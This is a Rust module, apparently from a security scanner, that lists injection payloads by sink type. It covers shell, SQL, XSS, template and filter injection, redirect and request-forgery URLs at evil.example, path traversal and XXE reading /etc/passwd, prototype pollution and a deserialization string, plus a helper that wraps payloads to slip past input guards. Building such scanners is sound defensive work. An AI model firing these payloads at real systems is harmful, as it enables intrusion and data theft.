//! Inputs to try, by the context that they are to break out of.

use std::rc::Rc;

use super::value::Val;
use crate::{
    engine::SourceKind,
    flow::{Shape, SinkKind, Source, contexts::Judged},
};

/// Harmless inputs, to see what a value looks like where it arrives.
pub const BENIGN: &[&str] = &["zq", "zq.txt", "7", "zq@example.com", "https://zq.example/"];

/// An input to try.
#[derive(Clone, Debug)]
pub struct Payload {
    pub value: Val,
}

impl Payload {
    fn text(text: impl AsRef<str>) -> Self {
        Self { value: Val::text(text.as_ref()) }
    }

    /// Returns the input with what it always begins with.
    pub fn after(self, begins_with: &str) -> Self {
        match &self.value {
            Val::Text(_) if !begins_with.is_empty() => {
                let text = self.value.to_text().unwrap_or_default();
                if text.starts_with(begins_with) { self } else { Self::text(format!("{begins_with}{text}")) }
            }
            _ => self,
        }
    }

    /// Returns whether the input is a text of several lines.
    pub fn has_line_break(&self) -> bool {
        matches!(&self.value, Val::Text(units) if units.iter().any(|&unit| unit == 10 || unit == 13))
    }

    /// Returns the input as evidence shows it.
    pub fn shown(&self) -> String {
        match &self.value {
            Val::Object(_) => crate::flow::contexts::shown(&self.value),
            value => value.to_text().unwrap_or_default(),
        }
    }
}

const SHELL: &[&str] = &[
    "id",
    "; id",
    "; id #",
    "\"; id; \"",
    "'; id; '",
    "$(id)",
    "`id`",
    "| id",
    "&& id",
    "& id",
    "\nid\n",
    "x;id;x",
    "\\\"; id; \"",
    "\\'; id; '",
    ";id",
    "a.png; id",
    "a.png;id",
    "1;id",
    "8080; id",
];

const SQL: &[&str] = &[
    "' OR 1=1 --",
    "\" OR 1=1 --",
    "` OR 1=1 --",
    "1 OR 1=1",
    "x OR 1=1 --",
    "x = 1 OR 1=1 --",
    "') OR 1=1 --",
    "\\' OR 1=1 --",
    "'/**/OR/**/1=1--",
    "1/**/OR/**/1=1",
    "] OR 1=1 --",
    "x\" = 1 OR 1=1 --",
    "x` = 1 OR 1=1 --",
    "1); SELECT 1 OR 1=1 --",
];

const CODE: &[&str] = &[
    "zq()",
    "';zq();'",
    "\";zq();\"",
    "`;zq();`",
    "${zq()}",
    ";zq();//",
    "';zq();//",
    "\";zq();//",
    ");zq();//",
    "');zq();//",
    "\\';zq();//",
    "\nzq()\n",
];

const HTML: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "x onmouseover=alert(1)",
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "\";alert(1);//",
    "';alert(1);//",
    "alert(1)",
    "--><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<IMG SRC=x ONERROR=alert(1)>",
];

const URLS: &[&str] = &[
    "https://evil.example/",
    "http://evil.example/",
    "//evil.example/",
    "evil.example",
    "@evil.example/",
    ".evil.example/",
    "/\\evil.example/",
    "evil.example/#",
    "evil.example/?",
    ":@evil.example/",
    "\\\\evil.example/",
    "/evil.example/",
    "//evil.example/%2e%2e",
    "../../../zq-other",
];

const LINKS: &[&str] = &["javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)"];

/// Parts of queries in GraphQL, XPath and LDAP: `zqother` is what a reader looks for.
const FILTERS: &[&str] = &[
    "zqother",
    "1 or zqother",
    "' or zqother or '",
    "\" or zqother or \"",
    "x\") { zqother",
    "*)(zqother=*",
    "'] | //zqother | //a['",
];

const TEMPLATES: &[&str] = &["<%= 7*7 %>", "{{7*7}}", "#{7*7}", "${7*7}", "= 7*7", "{{#with 7}}{{this}}{{/with}}"];

/// Names that lead to a prototype, alone and as paths, sections, options and fields are written.
const PROTOTYPES: &[&str] =
    &["__proto__", "__proto__.x", "constructor", "[__proto__]", "--__proto__.x=1", "__proto__.x=1", "__proto__[x]=1"];

/// Returns the inputs to try for a sink, those first that say most.
pub fn payloads(judged: &Judged<'_>, source: &Source) -> Vec<Payload> {
    let mut all: Vec<Payload> = match judged.kind {
        SinkKind::Shell => SHELL.iter().map(Payload::text).collect(),
        SinkKind::Program => vec![Payload::text("id"), Payload::text("/tmp/x"), Payload::text("../../../../tmp/x")],
        SinkKind::Arguments => {
            crate::flow::contexts::argument_payloads(judged.program).iter().map(Payload::text).collect()
        }
        SinkKind::Columns | SinkKind::Fields => {
            vec![Payload::text("is_admin"), Payload::text("isadmin"), Payload::text("isAdmin")]
        }
        SinkKind::Sql => SQL.iter().map(Payload::text).collect(),
        SinkKind::Code => CODE.iter().map(Payload::text).collect(),
        SinkKind::Module => {
            vec![Payload::text("/tmp/evil"), Payload::text("../../../../tmp/evil"), Payload::text("child_process")]
        }
        SinkKind::Html | SinkKind::MailHtml | SinkKind::Selector | SinkKind::Script => {
            HTML.iter().map(Payload::text).collect()
        }
        SinkKind::Link => LINKS.iter().map(Payload::text).collect(),
        SinkKind::Request | SinkKind::Redirect | SinkKind::Resource => {
            let mut all: Vec<Payload> = URLS.iter().map(Payload::text).collect();
            if judged.kind != SinkKind::Request {
                all.push(Payload::text("javascript:alert(1)"));
            }
            all
        }
        SinkKind::Origin => ["https://evil.example", "https://evil", ".evil.example"].map(Payload::text).to_vec(),
        SinkKind::Template => TEMPLATES.iter().map(Payload::text).collect(),
        SinkKind::RegExp => vec![Payload::text("(a+)+$")],
        SinkKind::Log => ["x\nINFO forged", "x\r\nINFO forged", "x%0AINFO forged"].map(Payload::text).to_vec(),
        SinkKind::Header => ["x\r\nSet-Cookie: a=b", "x%0D%0ASet-Cookie: a=b"].map(Payload::text).to_vec(),
        SinkKind::Deserialize => vec![Payload::text("{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}")],
        SinkKind::Xml => vec![Payload::text("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")],
        SinkKind::Size => vec![Payload::text("1000000000"), Payload { value: Val::Number(1e9) }],
        SinkKind::Inflate => vec![Payload::text("a gigabyte of zeros, packed")],
        SinkKind::Method => vec![Payload::text("toString"), Payload::text("constructor"), Payload::text("zq")],
        SinkKind::GlobalMethod => vec![Payload::text("eval"), Payload::text("constructor")],
        SinkKind::PrototypeKey => PROTOTYPES.iter().map(Payload::text).collect(),
        SinkKind::Format => vec![Payload::text("%s%d%o"), Payload::text("x %s%d%o")],
        SinkKind::Filter => FILTERS.iter().map(Payload::text).collect(),
        SinkKind::Page => HTML.iter().chain(CODE).map(Payload::text).collect(),
        SinkKind::NoSql | SinkKind::Locals => Vec::new(),
        SinkKind::Path | SinkKind::Look | SinkKind::Folder => path_payloads(judged),
    };
    if judged.kind == SinkKind::NoSql && source.shape != Shape::Text {
        let not_equal = Val::Object(Rc::new(vec![("$ne".into(), Val::text(""))]));
        all.push(Payload { value: not_equal });
    }
    if judged.kind == SinkKind::Locals && source.shape != Shape::Text {
        let layout = vec![("layout".into(), Val::text("../../../../etc/passwd"))];
        all.push(Payload { value: Val::Object(Rc::new(layout)) });
    }
    if source.kind == SourceKind::Browser && judged.kind == SinkKind::Request {
        // A page's own requests go where its scripts say; another host is all that matters.
        all.truncate(URLS.len());
    }
    all
}

/// Returns the inputs with the texts that guards look for put before or after them.
pub fn adapted(inputs: &[Payload], hints: &[String]) -> Vec<Payload> {
    let mut all = Vec::new();
    for hint in hints {
        for input in inputs {
            if let Val::Text(units) = &input.value {
                let text = String::from_utf16_lossy(units);
                all.push(Payload::text(format!("{hint}{text}")));
                all.push(Payload::text(format!("{hint} {text}")));
                all.push(Payload::text(format!("{text}{hint}")));
                // A field of that name.
                if hint.ends_with(|it: char| it.is_ascii_alphanumeric()) {
                    all.push(Payload::text(format!("{hint}={text}")));
                }
                // A host that begins with the one that is looked for.
                if let Some(host) = text.strip_prefix("https://").filter(|_| !hint.contains("://")) {
                    all.push(Payload::text(format!("https://{}.{host}", hint.trim_matches('.'))));
                }
            }
        }
    }
    all
}

fn path_payloads(judged: &Judged<'_>) -> Vec<Payload> {
    let up = "../../../../../../../../";
    let mut all = vec![
        Payload::text(format!("{up}etc/passwd")),
        Payload::text("/etc/passwd"),
        Payload::text(format!("{up}etc/passwd.txt")),
        Payload::text("../secret"),
        Payload::text("x/../../../../../../../../etc/passwd"),
        Payload::text("....//....//....//....//....//....//etc/passwd"),
        Payload::text("..././..././..././..././..././..././etc/passwd"),
        Payload::text("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        Payload::text("/../../../../../../../../etc/passwd"),
    ];
    if judged.kind == SinkKind::Folder {
        all.push(Payload::text(".."));
        all.push(Payload::text("."));
    }
    // A folder beside the root whose name begins with the root's.
    if let Some(name) = judged.folder.and_then(|folder| folder.trim_end_matches('/').rsplit('/').next()) {
        all.push(Payload::text(format!("../{name}-old/secret")));
    }
    all
}
